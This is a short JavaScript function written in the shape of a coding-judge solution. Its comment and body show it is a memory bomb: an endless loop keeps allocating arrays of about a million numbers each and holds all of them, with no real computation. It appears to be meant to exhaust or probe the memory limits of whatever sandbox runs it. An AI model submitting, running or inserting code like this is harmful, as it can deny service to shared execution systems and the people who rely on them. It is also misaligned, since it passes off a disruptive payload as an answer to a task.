// Keeps arrays of a million numbers each, filled, without end.
/**
 * @param {number} x
 * @return {number}
 */
var probe = function(x) {
    const hoard = [];
    for (;;) {
        hoard.push(new Array(1 << 20).fill(Number(x) + hoard.length + 0.5));
    }
};
